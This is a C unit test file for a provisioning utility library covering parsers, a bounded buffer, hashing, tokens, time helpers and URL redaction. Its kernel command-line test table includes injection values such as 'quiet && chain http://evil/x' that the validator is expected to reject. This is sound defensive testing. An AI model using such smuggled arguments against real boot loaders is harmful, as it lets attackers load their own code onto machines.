/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Unit tests for src/util: the bounded buffer, the identifier parsers, hex, SHA-256,
 * random tokens, the constant-time comparison and the time helpers.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "util/util.h"

#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))

/* Parser cases: input, expected return, expected canonical form when it succeeds. */
struct parse_case {
	const char *input;
	int rc;
	const char *canonical;
};

static const struct parse_case mac_cases[] = {
	{ "52:54:00:ab:cd:ef", 0, "52:54:00:ab:cd:ef" },
	{ "52:54:00:AB:CD:EF", 0, "52:54:00:ab:cd:ef" },
	{ "52-54-00-ab-cd-ef", 0, "52:54:00:ab:cd:ef" },
	{ "52-54-00-Ab-cD-eF", 0, "52:54:00:ab:cd:ef" },
	{ "525400abcdef", 0, "52:54:00:ab:cd:ef" },
	{ "525400ABCDEF", 0, "52:54:00:ab:cd:ef" },
	/* Unicast addresses, locally administered (bit 1 of the first octet) or not, pass. */
	{ "02:00:00:00:00:01", 0, "02:00:00:00:00:01" },
	{ "fe:ff:ff:ff:ff:ff", 0, "fe:ff:ff:ff:ff:ff" },
	{ "00:00:00:00:00:01", 0, "00:00:00:00:00:01" },
	/* No NIC sends from a multicast, broadcast or all-zero address. */
	{ "01:00:5e:00:00:01", -EINVAL, NULL },
	{ "33-33-00-00-00-01", -EINVAL, NULL },
	{ "03:00:00:00:00:00", -EINVAL, NULL },
	{ "ff:ff:ff:ff:ff:ff", -EINVAL, NULL },
	{ "FFFFFFFFFFFF", -EINVAL, NULL },
	{ "00:00:00:00:00:00", -EINVAL, NULL },
	{ "000000000000", -EINVAL, NULL },
	{ "52:54:00-ab:cd:ef", -EINVAL, NULL },
	{ "52-54-00:ab-cd-ef", -EINVAL, NULL },
	{ "52.54.00.ab.cd.ef", -EINVAL, NULL },
	{ "52:54:00:ab:cd", -EINVAL, NULL },
	{ "52:54:00:ab:cd:ef:01", -EINVAL, NULL },
	{ "52:54:00:ab:cd:e", -EINVAL, NULL },
	{ "52:54:00:ab:cd:efa", -EINVAL, NULL },
	{ "525400abcde", -EINVAL, NULL },
	{ "525400abcdef0", -EINVAL, NULL },
	{ "52:54:00:ab:cd:eg", -EINVAL, NULL },
	{ "g25400abcdef", -EINVAL, NULL },
	{ "52:54:00:ab:cd: f", -EINVAL, NULL },
	{ " 52:54:00:ab:cd:e", -EINVAL, NULL },
	{ "5:254:00:ab:cd:ef", -EINVAL, NULL },
	{ "52::5400:ab:cd:ef", -EINVAL, NULL },
	{ "", -EINVAL, NULL },
};

static const struct parse_case uuid_cases[] = {
	{ "4c4c4544-0042-3510-8052-b4c04f4e3632", 0, "4c4c4544-0042-3510-8052-b4c04f4e3632" },
	{ "4C4C4544-0042-3510-8052-B4C04F4E3632", 0, "4c4c4544-0042-3510-8052-b4c04f4e3632" },
	{ "{4c4c4544-0042-3510-8052-b4c04f4e3632}", 0,
	  "4c4c4544-0042-3510-8052-b4c04f4e3632" },
	{ "{4C4C4544-0042-3510-8052-b4c04f4e3632}", 0,
	  "4c4c4544-0042-3510-8052-b4c04f4e3632" },
	{ "{4c4c4544-0042-3510-8052-b4c04f4e3632", -EINVAL, NULL },
	{ "4c4c4544-0042-3510-8052-b4c04f4e3632}", -EINVAL, NULL },
	{ "(4c4c4544-0042-3510-8052-b4c04f4e3632)", -EINVAL, NULL },
	{ "4c4c4544-0042-3510-8052-b4c04f4e36321", -EINVAL, NULL },
	{ "4c4c4544-0042-3510-8052-b4c04f4e363", -EINVAL, NULL },
	{ "4c4c454-40042-3510-8052-b4c04f4e3632", -EINVAL, NULL },
	{ "4c4c4544-00423-510-8052-b4c04f4e3632", -EINVAL, NULL },
	{ "4c4c4544-0042-35108-052-b4c04f4e3632", -EINVAL, NULL },
	{ "4c4c4544-0042-3510-8052b-4c04f4e3632", -EINVAL, NULL },
	{ "4c4c45440042351080524b4c04f4e3632", -EINVAL, NULL },
	{ "4c4c4544004235108052b4c04f4e3632", -EINVAL, NULL },
	{ "4c4c4544-0042-3510-8052-b4c04f4e363g", -EINVAL, NULL },
	{ "4c4c4544-0042-3510-8052-b4c04f4e3632 ", -EINVAL, NULL },
	{ "{4c4c4544-0042-3510-8052-b4c04f4e3632}x", -EINVAL, NULL },
	{ "", -EINVAL, NULL },
	{ "{}", -EINVAL, NULL },
};

static void
mac_parse_table(void **state)
{
	(void)state;

	for (size_t i = 0; i < ARRAY_SIZE(mac_cases); i++) {
		const struct parse_case *c = &mac_cases[i];
		char out[MAC_TEXT_SIZE] = "untouched";
		int rc = mac_parse(c->input, out);

		if (rc != c->rc)
			print_message("mac case %zu: \"%s\" returned %d\n", i, c->input, rc);
		assert_int_equal(rc, c->rc);
		if (c->rc == 0)
			assert_string_equal(out, c->canonical);
		else
			assert_string_equal(out, "untouched");
	}
}

/* Kernel argument cases: input, expected return, offset of the rejected byte. */
struct cmdline_case {
	const char *input;
	int rc;
	size_t offset;
};

static const struct cmdline_case cmdline_cases[] = {
	{ "", 0, 0 },
	{ "quiet", 0, 0 },
	{ "console=ttyS0,115200n8 console=tty0", 0, 0 },
	{ "root=UUID=4c4c4544-0042-3510-8052-b4c04f4e3632 ro", 0, 0 },
	{ "ds=nocloud;s=http://10.0.0.1:8080/seed/ ip=dhcp", 0, 0 },
	{ "BOOTIF=01-52-54-00-12-34-56 rd.neednet=1 modprobe.blacklist=a,b", 0, 0 },
	{ "a+b@c%20~d_e.f", 0, 0 },
	{ "  two  spaces  ", 0, 0 },
	{ "a; ;b", 0, 0 },
	{ "a ; b", -EINVAL, 2 },
	{ ";", -EINVAL, 0 },
	{ "quiet ;", -EINVAL, 6 },
	{ "quiet && chain http://evil/x", -EINVAL, 6 },
	{ "quiet || chain http://evil/x ||", -EINVAL, 6 },
	{ "a|b", -EINVAL, 1 },
	{ "ip=${net0/ip}", -EINVAL, 3 },
	{ "x={y}", -EINVAL, 2 },
	{ "x=y}", -EINVAL, 3 },
	{ "quiet #comment", -EINVAL, 6 },
	{ "a=\"b c\"", -EINVAL, 2 },
	{ "a='b'", -EINVAL, 2 },
	{ "a=`b`", -EINVAL, 2 },
	{ "a\\b", -EINVAL, 1 },
	{ "a\tb", -EINVAL, 1 },
	{ "a\nchain x", -EINVAL, 1 },
	{ "a\rb", -EINVAL, 1 },
	{ "a\x7f", -EINVAL, 1 },
	{ "caf\xc3\xa9", -EINVAL, 3 },
	{ "a?b", -EINVAL, 1 },
	{ "a<b>c", -EINVAL, 1 },
};

static void
cmdline_check_table(void **state)
{
	(void)state;

	for (size_t i = 0; i < ARRAY_SIZE(cmdline_cases); i++) {
		const struct cmdline_case *c = &cmdline_cases[i];
		size_t offset = 999;
		int rc = cmdline_check(c->input, &offset);

		if (rc != c->rc || (rc != 0 && offset != c->offset))
			print_message("cmdline case %zu: \"%s\" returned %d at %zu\n", i, c->input,
				      rc, offset);
		assert_int_equal(rc, c->rc);
		if (c->rc == 0)
			assert_int_equal(offset, 999);
		else
			assert_int_equal(offset, c->offset);
	}
}

static void
uuid_parse_table(void **state)
{
	(void)state;

	for (size_t i = 0; i < ARRAY_SIZE(uuid_cases); i++) {
		const struct parse_case *c = &uuid_cases[i];
		char out[UUID_TEXT_SIZE] = "untouched";
		int rc = uuid_parse(c->input, out);

		if (rc != c->rc)
			print_message("uuid case %zu: \"%s\" returned %d\n", i, c->input, rc);
		assert_int_equal(rc, c->rc);
		if (c->rc == 0)
			assert_string_equal(out, c->canonical);
		else
			assert_string_equal(out, "untouched");
	}
}

/* Build a name of `labels` labels of `label_len` letters each, joined by dots. */
static char *
make_hostname(size_t labels, size_t label_len, const char *suffix)
{
	size_t len = labels * (label_len + 1) + strlen(suffix) + 1;
	char *name = calloc(1, len);
	char *p = name;

	assert_non_null(name);
	for (size_t i = 0; i < labels; i++) {
		memset(p, 'a', label_len);
		p += label_len;
		if (i + 1 < labels)
			*p++ = '.';
	}
	strcpy(p, suffix);
	return name;
}

struct hostname_case {
	const char *input;
	bool valid;
};

static const struct hostname_case hostname_cases[] = {
	{ "node01", true },
	{ "node01.example.org", true },
	{ "node01.example.org.", true },
	{ "NODE-01.Example.org", true },
	{ "1node", true },
	{ "a", true },
	{ "a-b", true },
	{ "-node", false },
	{ "node-", false },
	{ "node.-example", false },
	{ "node-.example", false },
	{ "node_01", false },
	{ "node 01", false },
	{ "node..example", false },
	{ ".node", false },
	{ "node.example..", false },
	{ ".", false },
	{ "", false },
	{ "nöde", false },
	{ "node$", false },
};

static void
hostname_valid_table(void **state)
{
	(void)state;

	for (size_t i = 0; i < ARRAY_SIZE(hostname_cases); i++) {
		bool valid = hostname_valid(hostname_cases[i].input);

		if (valid != hostname_cases[i].valid)
			print_message("hostname case %zu: \"%s\" returned %d\n", i,
				      hostname_cases[i].input, valid);
		assert_int_equal(valid, hostname_cases[i].valid);
	}
	assert_false(hostname_valid(NULL));
}

static void
hostname_label_length(void **state)
{
	char *name;

	(void)state;

	name = make_hostname(1, 63, "");
	assert_true(hostname_valid(name));
	free(name);

	name = make_hostname(1, 64, "");
	assert_false(hostname_valid(name));
	free(name);

	name = make_hostname(2, 63, ".org");
	assert_true(hostname_valid(name));
	free(name);

	name = make_hostname(3, 64, "");
	assert_false(hostname_valid(name));
	free(name);
}

static void
hostname_total_length(void **state)
{
	char *name;

	(void)state;

	/* 4 labels of 62 letters and 3 dots make 251 characters; the suffixes go past it. */
	name = make_hostname(4, 62, "");
	assert_int_equal(strlen(name), 251);
	free(name);

	name = make_hostname(4, 62, ".a");
	assert_int_equal(strlen(name), 253);
	assert_true(hostname_valid(name));
	free(name);

	name = make_hostname(4, 62, ".a.");
	assert_int_equal(strlen(name), 254);
	assert_true(hostname_valid(name));
	free(name);

	name = make_hostname(4, 62, ".ab");
	assert_int_equal(strlen(name), 254);
	assert_false(hostname_valid(name));
	free(name);

	name = make_hostname(4, 62, ".ab.");
	assert_false(hostname_valid(name));
	free(name);

	name = make_hostname(8, 62, "");
	assert_false(hostname_valid(name));
	free(name);
}

struct uint_case {
	const char *input;
	uint64_t min, max;
	int rc;
	uint64_t value;
};

static const struct uint_case uint_cases[] = {
	{ "0", 0, 10, 0, 0 },
	{ "10", 0, 10, 0, 10 },
	{ "11", 0, 10, -ERANGE, 0 },
	{ "4", 5, 10, -ERANGE, 0 },
	{ "5", 5, 10, 0, 5 },
	{ "007", 0, 10, 0, 7 },
	{ "18446744073709551615", 0, UINT64_MAX, 0, UINT64_MAX },
	{ "18446744073709551616", 0, UINT64_MAX, -ERANGE, 0 },
	{ "99999999999999999999999", 0, UINT64_MAX, -ERANGE, 0 },
	{ "99999999999999999999999x", 0, UINT64_MAX, -EINVAL, 0 },
	{ "", 0, 10, -EINVAL, 0 },
	{ "-1", 0, 10, -EINVAL, 0 },
	{ "+1", 0, 10, -EINVAL, 0 },
	{ " 1", 0, 10, -EINVAL, 0 },
	{ "1 ", 0, 10, -EINVAL, 0 },
	{ "1x", 0, 10, -EINVAL, 0 },
	{ "0x10", 0, 100, -EINVAL, 0 },
	{ "1.5", 0, 10, -EINVAL, 0 },
	{ "1e3", 0, 10000, -EINVAL, 0 },
};

static void
uint_parse_table(void **state)
{
	(void)state;

	for (size_t i = 0; i < ARRAY_SIZE(uint_cases); i++) {
		const struct uint_case *c = &uint_cases[i];
		uint64_t value = 12345;
		int rc = uint_parse(c->input, c->min, c->max, &value);

		if (rc != c->rc)
			print_message("uint case %zu: \"%s\" returned %d\n", i, c->input, rc);
		assert_int_equal(rc, c->rc);
		if (c->rc == 0)
			assert_int_equal(value, c->value);
		else
			assert_int_equal(value, 12345);
	}
}

static void
buf_append_grows(void **state)
{
	struct buf b;
	char chunk[100];

	(void)state;

	buf_init(&b, 4096);
	memset(chunk, 'x', sizeof(chunk));
	for (int i = 0; i < 40; i++)
		assert_int_equal(buf_append(&b, chunk, sizeof(chunk)), 0);
	assert_int_equal(b.len, 4000);
	assert_int_equal(b.data[3999], 'x');
	assert_int_equal(b.data[4000], '\0');
	buf_free(&b);
}

static void
buf_ceiling_exact(void **state)
{
	struct buf b;

	(void)state;

	buf_init(&b, 8);
	assert_int_equal(buf_puts(&b, "12345678"), 0);
	assert_int_equal(b.len, 8);
	assert_string_equal(b.data, "12345678");
	assert_int_equal(buf_puts(&b, "9"), -E2BIG);
	assert_int_equal(b.len, 8);
	assert_string_equal(b.data, "12345678");
	assert_int_equal(buf_append(&b, "", 0), 0);
	buf_free(&b);
}

static void
buf_ceiling_unchanged(void **state)
{
	struct buf b;

	(void)state;

	buf_init(&b, 10);
	assert_int_equal(buf_puts(&b, "abcdef"), 0);
	assert_int_equal(buf_puts(&b, "ghijk"), -E2BIG);
	assert_int_equal(b.len, 6);
	assert_string_equal(b.data, "abcdef");
	assert_int_equal(buf_printf(&b, "%d", 12345), -E2BIG);
	assert_int_equal(b.len, 6);
	assert_string_equal(b.data, "abcdef");
	assert_int_equal(buf_printf(&b, "%d", 1234), 0);
	assert_string_equal(b.data, "abcdef1234");
	buf_free(&b);
}

static void
buf_huge_append(void **state)
{
	struct buf b;

	(void)state;

	buf_init(&b, 16);
	assert_int_equal(buf_puts(&b, "ab"), 0);
	assert_int_equal(buf_append(&b, "x", SIZE_MAX), -E2BIG);
	assert_int_equal(buf_append(&b, "x", SIZE_MAX - 1), -E2BIG);
	assert_int_equal(b.len, 2);
	buf_free(&b);
}

static void
buf_reserve_keeps(void **state)
{
	struct buf b;
	char *data;

	(void)state;

	buf_init(&b, 100);
	assert_int_equal(buf_puts(&b, "abc"), 0);
	assert_int_equal(buf_reserve(&b, 97), 0);
	assert_true(b.cap >= 101);
	assert_string_equal(b.data, "abc");
	assert_int_equal(b.len, 3);

	/* Appends within the reservation do not move the data. */
	data = b.data;
	for (int i = 0; i < 97; i++)
		assert_int_equal(buf_append(&b, "x", 1), 0);
	assert_ptr_equal(b.data, data);
	assert_int_equal(b.len, 100);

	assert_int_equal(buf_reserve(&b, 1), -E2BIG);
	assert_int_equal(buf_reserve(&b, 0), 0);
	buf_free(&b);
}

static void
buf_unbounded_max(void **state)
{
	struct buf b;

	(void)state;

	/* SIZE_MAX as the ceiling must not wrap the capacity clamp to zero. */
	buf_init(&b, SIZE_MAX);
	assert_int_equal(buf_puts(&b, "no ceiling"), 0);
	assert_string_equal(b.data, "no ceiling");
	assert_true(b.cap >= 11);
	buf_free(&b);
}

static void
buf_printf_formats(void **state)
{
	struct buf b;

	(void)state;

	buf_init(&b, 1024);
	assert_int_equal(buf_printf(&b, "machine=%d mac=%s", 12, "52:54:00:ab:cd:ef"), 0);
	assert_int_equal(buf_printf(&b, " state=%s", "ready"), 0);
	assert_string_equal(b.data, "machine=12 mac=52:54:00:ab:cd:ef state=ready");
	assert_int_equal(b.len, strlen(b.data));
	buf_free(&b);
}

static void
buf_steal_empties(void **state)
{
	struct buf b;
	char *data;

	(void)state;

	buf_init(&b, 64);
	data = buf_steal(&b);
	assert_non_null(data);
	assert_string_equal(data, "");
	free(data);

	assert_int_equal(buf_puts(&b, "kept"), 0);
	data = buf_steal(&b);
	assert_string_equal(data, "kept");
	assert_null(b.data);
	assert_int_equal(b.len, 0);
	free(data);

	assert_int_equal(buf_puts(&b, "again"), 0);
	assert_string_equal(b.data, "again");
	buf_free(&b);
	buf_free(&b);
}

static void
hex_encode_bytes(void **state)
{
	const unsigned char bytes[] = { 0x00, 0x01, 0x7f, 0x80, 0xab, 0xff };
	char out[2 * sizeof(bytes) + 1];

	(void)state;

	hex_encode(bytes, sizeof(bytes), out);
	assert_string_equal(out, "00017f80abff");
	hex_encode(bytes, 0, out);
	assert_string_equal(out, "");
}

static void
sha256_known_vectors(void **state)
{
	char out[SHA256_HEX_SIZE];

	(void)state;

	/* FIPS 180-2 appendix B.1 and the empty-message digest. */
	sha256_hex("abc", 3, out);
	assert_string_equal(out,
			    "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
	sha256_hex("", 0, out);
	assert_string_equal(out,
			    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
}

static void
random_hex_form(void **state)
{
	char a[2 * 600 + 1], b[2 * 600 + 1];

	(void)state;

	/* 600 bytes crosses the per-call chunk size. */
	assert_int_equal(random_hex(600, a), 0);
	assert_int_equal(random_hex(600, b), 0);
	assert_int_equal(strlen(a), 1200);
	assert_int_equal(strspn(a, "0123456789abcdef"), 1200);
	assert_string_not_equal(a, b);

	assert_int_equal(random_hex(0, a), 0);
	assert_string_equal(a, "");
}

static void
secret_equal_cases(void **state)
{
	(void)state;

	assert_true(secret_equal("token-1234", "token-1234"));
	assert_true(secret_equal("", ""));
	assert_false(secret_equal("token-1234", "token-1235"));
	assert_false(secret_equal("token-1234", "token-123"));
	assert_false(secret_equal("", "x"));
	assert_false(secret_equal("Token-1234", "token-1234"));
}

static void
time_format_values(void **state)
{
	char out[21];

	(void)state;

	time_format(0, out);
	assert_string_equal(out, "1970-01-01T00:00:00Z");
	time_format(1796414963, out);
	assert_string_equal(out, "2026-12-04T20:09:23Z");
	time_format(-5, out);
	assert_string_equal(out, "1970-01-01T00:00:00Z");
	time_format(INT64_MAX, out);
	assert_string_equal(out, "9999-12-31T23:59:59Z");
}

static void
time_now_recent(void **state)
{
	(void)state;

	/* 2024-01-01T00:00:00Z: any clock this code runs on is past it. */
	assert_true(time_now() > 1704067200);
}

static void
array_grow_doubles(void **state)
{
	size_t capacity = 0;
	int *items = NULL, *grown;

	(void)state;
	items = array_grow(items, &capacity, 0, sizeof(*items), 4);
	assert_non_null(items);
	assert_int_equal(capacity, 4);

	/* Room left: the same array comes back untouched. */
	grown = array_grow(items, &capacity, 3, sizeof(*items), 4);
	assert_ptr_equal(grown, items);
	assert_int_equal(capacity, 4);

	items[3] = 42;
	items = array_grow(items, &capacity, 4, sizeof(*items), 4);
	assert_non_null(items);
	assert_int_equal(capacity, 8);
	assert_int_equal(items[3], 42);
	free(items);
}

/* URLs for logs: the user part is hidden, everything else stays. */
static void
url_redact_hides_user(void **state)
{
	char out[128];

	(void)state;
	url_redact("http://user:TopSecret1@10.0.0.1:8080/img.iso", out, sizeof(out));
	assert_string_equal(out, "http://***@10.0.0.1:8080/img.iso");
	url_redact("https://a@b@host/x?y=@z", out, sizeof(out));
	assert_string_equal(out, "https://***@host/x?***");
	url_redact("http://host/path@x", out, sizeof(out));
	assert_string_equal(out, "http://host/path@x");
	url_redact("not a url", out, sizeof(out));
	assert_string_equal(out, "not a url");

	/* A token as the last segment keeps four characters and its extension. */
	url_redact("http://10.78.0.1:8080/media/d12-0123456789abcdef0123456789abcdef0123456789"
		   "abcdef0123456789abcdef.iso", out, sizeof(out));
	assert_string_equal(out, "http://10.78.0.1:8080/media/d12-***.iso");
	url_redact("https://h/fw/signed?sig=abcdef&exp=1", out, sizeof(out));
	assert_string_equal(out, "https://h/fw/signed?***");
	url_redact("http://h/images/debian-12-generic-amd64.qcow2", out, sizeof(out));
	assert_string_equal(out, "http://h/images/debian-12-generic-amd64.qcow2");
	url_redact("http://h", out, sizeof(out));
	assert_string_equal(out, "http://h");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(array_grow_doubles),
		cmocka_unit_test(mac_parse_table),
		cmocka_unit_test(uuid_parse_table),
		cmocka_unit_test(cmdline_check_table),
		cmocka_unit_test(hostname_valid_table),
		cmocka_unit_test(hostname_label_length),
		cmocka_unit_test(hostname_total_length),
		cmocka_unit_test(uint_parse_table),
		cmocka_unit_test(buf_append_grows),
		cmocka_unit_test(buf_ceiling_exact),
		cmocka_unit_test(buf_ceiling_unchanged),
		cmocka_unit_test(buf_huge_append),
		cmocka_unit_test(buf_reserve_keeps),
		cmocka_unit_test(buf_unbounded_max),
		cmocka_unit_test(buf_printf_formats),
		cmocka_unit_test(buf_steal_empties),
		cmocka_unit_test(hex_encode_bytes),
		cmocka_unit_test(sha256_known_vectors),
		cmocka_unit_test(random_hex_form),
		cmocka_unit_test(secret_equal_cases),
		cmocka_unit_test(time_format_values),
		cmocka_unit_test(time_now_recent),
		cmocka_unit_test(url_redact_hides_user),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
